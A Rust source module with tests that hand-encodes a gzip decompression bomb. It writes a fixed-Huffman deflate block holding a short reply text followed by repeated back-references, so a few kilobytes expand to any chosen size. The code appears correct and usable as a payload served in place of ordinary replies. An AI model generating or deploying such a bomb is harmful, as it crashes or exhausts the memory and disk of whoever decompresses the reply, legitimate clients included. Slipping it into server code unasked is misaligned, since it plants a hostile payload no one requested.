//! A gzip stream that unpacks to far more than it weighs: a reply followed by blanks.
//!
//! Written by hand, since it needs no compressor: one deflate block with the fixed code, the
//! reply as literals, then "copy 258 bytes from one byte back" as often as it takes (RFC 1951).

const RUN: u64 = 258;
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

/// Packs `text` and enough blanks after it to reach about `bytes`.
pub(super) fn bomb(text: &[u8], bytes: u64) -> Vec<u8> {
    let runs = bytes.saturating_sub(text.len() as u64) / RUN;
    let mut bits = Bits { out: HEADER.to_vec(), byte: 0, filled: 0 };
    let mut checksum = Checksum(u32::MAX);
    // The only block, with the fixed code.
    bits.push(1, 1);
    bits.push(0b01, 2);
    for byte in text.iter().chain(b" ") {
        bits.literal(*byte);
        checksum.add(*byte);
    }
    for _ in 0..runs {
        // Length 258 is code 285, distance 1 is code 0.
        bits.code(0b1100_0101, 8);
        bits.code(0, 5);
        for _ in 0..RUN {
            checksum.add(b' ');
        }
    }
    bits.code(0, 7);
    let mut out = bits.finish();
    out.extend((!checksum.0).to_le_bytes());
    let size = text.len() as u64 + 1 + runs * RUN;
    // The field holds the size modulo 2^32.
    out.extend(&size.to_le_bytes()[..4]);
    out
}

struct Bits {
    out: Vec<u8>,
    byte: u8,
    filled: u32,
}

impl Bits {
    /// Numbers go in with their lowest bit first.
    fn push(&mut self, value: u32, width: u32) {
        for place in 0..width {
            if value >> place & 1 == 1 {
                self.byte |= 1 << self.filled;
            }
            self.filled += 1;
            if self.filled == 8 {
                self.out.push(self.byte);
                self.byte = 0;
                self.filled = 0;
            }
        }
    }

    /// Huffman codes go in with their highest bit first.
    fn code(&mut self, code: u32, width: u32) {
        for place in (0..width).rev() {
            self.push(code >> place & 1, 1);
        }
    }

    fn literal(&mut self, byte: u8) {
        match byte {
            0..=143 => self.code(0x30 + u32::from(byte), 8),
            144.. => self.code(0x190 + u32::from(byte) - 144, 9),
        }
    }

    fn finish(mut self) -> Vec<u8> {
        if self.filled > 0 {
            self.out.push(self.byte);
        }
        self.out
    }
}

/// CRC-32 as gzip wants it.
struct Checksum(u32);

impl Checksum {
    fn add(&mut self, byte: u8) {
        let index = (self.0 ^ u32::from(byte)) & 0xff;
        self.0 = self.0 >> 8 ^ TABLE[index as usize];
    }
}

const TABLE: [u32; 256] = table();

const fn table() -> [u32; 256] {
    let mut table = [0; 256];
    let mut index = 0;
    while index < 256 {
        let mut value = index as u32;
        let mut bit = 0;
        while bit < 8 {
            value = if value & 1 == 1 { value >> 1 ^ 0xEDB8_8320 } else { value >> 1 };
            bit += 1;
        }
        table[index] = value;
        index += 1;
    }
    table
}

#[cfg(test)]
mod tests {
    use super::{Checksum, bomb};

    #[test]
    fn checksum_is_the_standard_one() {
        let mut checksum = Checksum(u32::MAX);
        for byte in b"123456789" {
            checksum.add(*byte);
        }
        assert_eq!(!checksum.0, 0xCBF4_3926);
    }

    #[test]
    fn a_bomb_is_small() {
        let packed = bomb(b"{\"errorId\":0}", 1 << 20);
        assert!(packed.len() < 16_384);
    }
}
